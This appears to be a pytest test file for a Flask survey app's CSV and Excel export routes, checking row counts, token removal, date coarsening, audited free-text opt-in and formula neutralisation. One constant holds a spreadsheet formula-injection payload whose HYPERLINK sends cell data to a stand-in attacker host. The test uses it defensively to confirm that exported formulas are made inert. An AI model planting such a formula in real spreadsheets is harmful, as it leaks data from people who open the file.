"""Export downloads: row counts, no tokens, inert formulas, opt-in free text, audit rows."""

from __future__ import annotations

import io
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from survey.core.questionnaire import load_questionnaire
from survey.extensions import db
from survey.models import AuditLog, Response, Wave
from survey.queries import export_columns, exports
from survey.queries.filters import Filters
from tests.helpers import csrf_token, csv_rows, post, with_text_question

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'



def xlsx_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(name).decode("utf-8", "replace") for name in z.namelist())


@pytest.fixture
def stored(submit: Callable[..., Response]) -> list[Response]:
    return [submit(best=True, province="shanghai"), submit(best=False, province="sichuan"),
            submit(best=True, province="jiangsu")]


def test_csv_rows_equal_the_filtered_count(analyst_client: FlaskClient,
                                           stored: list[Response]) -> None:
    resp = analyst_client.get("/staff/export.csv?region=east")
    assert resp.status_code == 200
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in resp.headers["Content-Disposition"]
    rows = csv_rows(resp.get_data())
    assert len(rows) == exports.count(Filters(region="east")) == 2
    assert {int(r["response_id"]) for r in rows} == {stored[0].id, stored[2].id}
    assert len(csv_rows(analyst_client.get("/staff/export.csv").get_data())) == 3


def test_exports_coarsen_dates_to_the_month(analyst_client: FlaskClient,
                                            stored: list[Response]) -> None:
    rows = csv_rows(analyst_client.get("/staff/export.csv").get_data())
    assert rows[0]["month"] == stored[0].assessment.month
    day = stored[0].assessment.local_date.isoformat()
    assert day not in analyst_client.get("/staff/export.csv").get_data(as_text=True)


def test_no_token_in_any_export(analyst_client: FlaskClient, stored: list[Response]) -> None:
    tokens = [r.token for r in stored]
    csv_bytes = analyst_client.get("/staff/export.csv").get_data()
    xlsx = analyst_client.get("/staff/export.xlsx")
    assert xlsx.status_code == 200 and xlsx.mimetype.endswith("spreadsheetml.sheet")
    xlsx_bytes = xlsx.get_data()
    unpacked = xlsx_text(xlsx_bytes)
    for token in tokens:
        for blob in (csv_bytes, xlsx_bytes, unpacked.encode()):
            assert token.encode() not in blob
    assert "token" not in csv_rows(csv_bytes)[0]
    assert f"<v>{stored[0].id}</v>" in unpacked  # the data is really in the workbook


def test_formula_looking_text_is_inert(admin_client: FlaskClient,
                                       stored: list[Response]) -> None:
    wave = db.session.scalar(select(Wave))
    assert wave is not None
    wave.name = FORMULA
    db.session.commit()
    rows = csv_rows(admin_client.get("/staff/export.csv").get_data())
    assert rows[0]["wave"] == "'" + FORMULA
    assert float(rows[0]["overall_score"]) >= 0  # numbers stay numbers
    sheet = xlsx_text(admin_client.get("/staff/export.xlsx").get_data())
    assert "<f>" not in sheet and "HYPERLINK" in sheet


def test_free_text_only_on_an_audited_admin_opt_in(
        admin_client: FlaskClient, analyst_client: FlaskClient, stored: list[Response],
        monkeypatch: pytest.MonkeyPatch) -> None:
    q = with_text_question(load_questionnaire())
    forms = {**export_columns.question_versions(),
             "comments": [(q.version, q.questions["comments"])]}
    monkeypatch.setattr(export_columns, "question_versions", lambda: forms)
    response = db.session.get(Response, stored[0].id)
    assert response is not None
    response.answers = {**response.answers, "comments": "=2+5 call me on 138"}
    db.session.commit()

    assert "include_free_text" in admin_client.get("/staff/exports").get_data(as_text=True)
    plain = csv_rows(admin_client.get("/staff/export.csv").get_data())
    assert "comments" not in plain[0]
    token = csrf_token(analyst_client, "/staff/exports")
    refused = analyst_client.post("/staff/export.csv",
                                  data={"csrf_token": token, "include_free_text": "y"})
    assert refused.status_code == 403

    opted = post(admin_client, "/staff/export.csv", {"include_free_text": "y"},
                 "/staff/exports")
    rows = csv_rows(opted.get_data())
    assert rows[0]["comments"] == "'=2+5 call me on 138"
    actions = db.session.scalars(select(AuditLog.action).order_by(AuditLog.id)).all()
    assert actions.count("export.free_text_opt_in") == 1
    without_box = post(admin_client, "/staff/export.csv", {}, "/staff/exports")
    assert "comments" not in csv_rows(without_box.get_data())[0]


def test_exports_are_audited(analyst_client: FlaskClient, analyst: object,
                             stored: list[Response]) -> None:
    analyst_client.get("/staff/export.csv?region=east").get_data()
    analyst_client.get("/staff/export.xlsx").get_data()
    rows = db.session.scalars(select(AuditLog).where(AuditLog.action.like("export.%"))
                              .order_by(AuditLog.id)).all()
    assert [r.action for r in rows] == ["export.csv", "export.xlsx"]
    assert rows[0].details["filters"] == {"region": "east"}
    assert rows[0].details["rows"] == 2 and rows[1].details["rows"] == 3
    assert rows[0].actor_id == analyst.id  # type: ignore[attr-defined]


def test_excel_beyond_its_row_limit_offers_csv(analyst_client: FlaskClient,
                                               stored: list[Response],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "EXCEL_MAX_DATA_ROWS", 2)
    resp = analyst_client.get("/staff/export.xlsx")
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert "/staff/export.csv" in page and "at most 2 rows" in page
    assert analyst_client.get("/staff/export.xlsx?region=east").status_code == 200


def test_bad_filters_refuse_the_export(analyst_client: FlaskClient,
                                       stored: list[Response]) -> None:
    resp = analyst_client.get("/staff/export.csv?region=atlantis")
    assert resp.status_code == 400
    assert "region" in resp.get_data(as_text=True)


def test_export_page_and_codebook(analyst_client: FlaskClient, stored: list[Response]) -> None:
    page = analyst_client.get("/staff/exports?region=east").get_data(as_text=True)
    assert "2 assessments match" in page
    assert 'action="/staff/export.csv?region=east"' in page
    assert "include_free_text" not in page  # analysts are not offered free text
    zh = analyst_client.get("/staff/codebook.csv?lang=zh").get_data()
    q = load_questionnaire()
    assert q.questions["fin_finance_obstacle"].text.zh in zh.decode("utf-8-sig")


def test_excel_temp_files_are_removed(analyst_client: FlaskClient, stored: list[Response],
                                      monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    full = analyst_client.get("/staff/export.xlsx")
    assert int(full.headers["Content-Length"]) == len(full.get_data())
    head = analyst_client.head("/staff/export.xlsx")
    assert head.status_code == 200
    head.close()
    assert list(tmp_path.iterdir()) == []


def test_exports_carry_the_2027_columns_and_the_codebook_their_codes(
        analyst_client: FlaskClient, stored: list[Response]) -> None:
    rows = csv_rows(analyst_client.get("/staff/export.csv").get_data())
    assert {"financing_capability", "financing_status", "financing_gap",
            "overseas_markets_status", "credit_constraint", "revenue_band"} <= set(rows[0])
    assert {r["financing_status"] for r in rows} == {"scored"}
    assert all(r["credit_constraint"] in ("no_need", "not_constrained", "partially_constrained",
                                          "fully_constrained", "unknown") for r in rows)
    codebook = csv_rows(analyst_client.get("/staff/codebook.csv?lang=en").get_data())
    credit = {r["option_value"]: r["option_label"] for r in codebook
              if r["column"] == "credit_constraint"}
    assert credit["fully_constrained"] == "Fully credit-constrained"
    assert credit["no_need"] == "No need for external finance"
    gap = {r["option_value"]: r["option_label"] for r in codebook
           if r["column"] == "overseas_markets_gap"}
    assert gap == {"mostly_external": "Mostly external", "mixed": "Mixed",
                   "mostly_internal": "Mostly internal"}
    xlsx = xlsx_text(analyst_client.get("/staff/export.xlsx").get_data())
    assert "financing_capability" in xlsx and "Fully credit-constrained" in xlsx
